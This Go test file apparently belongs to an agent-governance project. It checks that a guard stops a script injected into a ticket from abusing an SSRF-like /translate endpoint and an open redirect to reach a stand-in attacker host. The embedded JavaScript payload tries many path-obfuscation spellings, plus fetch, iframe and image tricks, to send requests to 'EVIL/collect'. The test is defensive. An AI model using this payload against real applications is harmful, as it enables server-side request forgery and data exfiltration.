package attack

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/sallyport-dev/sallyport/internal/action"
	"github.com/sallyport-dev/sallyport/internal/estate"
	"github.com/sallyport-dev/sallyport/test/rig"
)

// fetchesForOthers declares what the ticket queue of the tapped rig does at
// /translate: it asks an address that the request names.
var fetchesForOthers = rig.Replace("connectors.yaml", "    - name: tickets.ticket.read\n", `    - name: tickets.page.translate
      description: The application fetches the address that it is given.
      method: GET
      path: /translate
      query: {fields: {u: {param: url}}}
      effect: write
    - name: tickets.ticket.read
`)

// The governed queue translates pages: it fetches whatever address it is given,
// from a network of its own, and shows what came. It also redirects to any. A
// script in a ticket uses both to carry something to the attacker, in every
// spelling of the address that the application understands. The connector says
// what the application does there, so being asked is an operation with the
// address as its parameter, in no grant; what is nearly it is no read either; and
// a redirect is decided where it leads.
//
// Threats: T41, B8 (grant, guardrail)
func TestGovernedHostFetchesForOthers(t *testing.T) {
	var fetched atomic.Int64
	answer := func(w http.ResponseWriter, r *http.Request) bool {
		path := strings.ToLower(strings.TrimRight(r.URL.Path, "/"))
		switch {
		case path == "/translate" || strings.HasPrefix(path, "/translate/"):
			fetched.Add(1)
			own, tapped := tappedRig.Estate.URL(estate.Sandbox, estate.Evil), theTap.URL(estate.Evil)
			resp, err := tappedRig.Estate.HTTPClient().Get(strings.Replace(r.FormValue("u"), tapped, own, 1))
			if err != nil {
				http.Error(w, err.Error(), http.StatusBadGateway)
				return true
			}
			defer resp.Body.Close()
			io.Copy(w, resp.Body)
		case path == "/out":
			w.Header().Set("Location", r.FormValue("to"))
			w.WriteHeader(http.StatusFound)
		default:
			return false
		}
		return true
	}
	r, tap := hostile(t, `(() => {
const go = f => { try { const p = f(); if (p && p.catch) p.catch(() => {}) } catch (e) {} };
const u = encodeURIComponent('EVIL/collect?way=translate');
for (const at of ['/translate?u=' + u, '/translate/?u=' + u, '/Translate?u=' + u, '/TRANSLATE/?u=' + u, '/translate?u=' + u + '&x=1', '/translate?x=1&u=' + u, '/translate?U=' + u + '&u=' + u, '/%74ranslate?u=' + u, '/./translate?u=' + u, '//translate?u=' + u, '/translate;x?u=' + u, '/translate%2f?u=' + u, '/translate'])
  for (const method of ['GET', 'HEAD', 'POST']) go(() => fetch(location.origin + at, {method, mode: 'no-cors'}));
go(() => { const f = document.createElement('iframe'); f.src = '/translate?u=' + u; document.body.append(f) });
go(() => new Image().src = '/translate?u=' + u);
for (const to of ['EVIL/collect?way=out', '//' + 'EVIL/collect?way=out'.split('//')[1]]) {
  go(() => fetch('/out?to=' + encodeURIComponent(to), {mode: 'no-cors'}));
  go(() => { const f = document.createElement('iframe'); f.src = '/out?to=' + encodeURIComponent(to); document.body.append(f) });
}
setTimeout(() => fetch('/static/done'), 1000);
})()`, answer)
	// The application does what the attacker hopes for.
	w := httptest.NewRecorder()
	if !answer(w, httptest.NewRequest("GET", "/translate?u="+tap.URL(estate.Evil)+"/", nil)) || w.Code != http.StatusOK {
		t.Fatalf("the application does not fetch: %d %s", w.Code, w.Body)
	}
	fetched.Store(0)
	ds := visit(t, r, "wait:2000")
	if n := fetched.Load(); n != 0 {
		t.Errorf("the application fetched %d times for the script", n)
	}
	evil := estate.Host(estate.Sandbox, estate.Evil)
	for _, q := range tap.arrived(func(q request) bool { return strings.HasPrefix(q.host, evil) }) {
		t.Errorf("reached the attacker: %s %s", q.method, q.uri)
	}
	if n := len(tap.arrived(func(q request) bool { return strings.HasPrefix(q.uri, "/out") })); n == 0 {
		t.Error("the redirector was not asked")
	}
	if n := len(tap.arrived(func(q request) bool { return q.uri == "/static/done" })); n != 1 {
		t.Errorf("the script came to its end %d times", n)
	}
	refused := map[string]bool{}
	for _, d := range ds {
		switch a := d.Action; {
		case d.Decision.Verdict == action.Allow:
		case a.Operation == "tickets.page.translate":
			refused["translate "+string(d.Decision.Layer)] = true
			if a.Params["url"] != tap.URL(estate.Evil)+"/collect?way=translate" {
				t.Errorf("on record with %v", a.Params)
			}
		case a.Request != nil && a.Request.Origin == tap.URL(estate.Evil):
			refused["evil "+d.Decision.Code] = true
		case a.Params["why"] != "":
			refused[a.Params["why"]] = true
		}
	}
	for _, want := range []string{"translate grant", "evil ungoverned_origin", "similar_path", "ambiguous_path"} {
		if !refused[want] {
			t.Errorf("nothing was refused as %q: %v", want, refused)
		}
	}
}
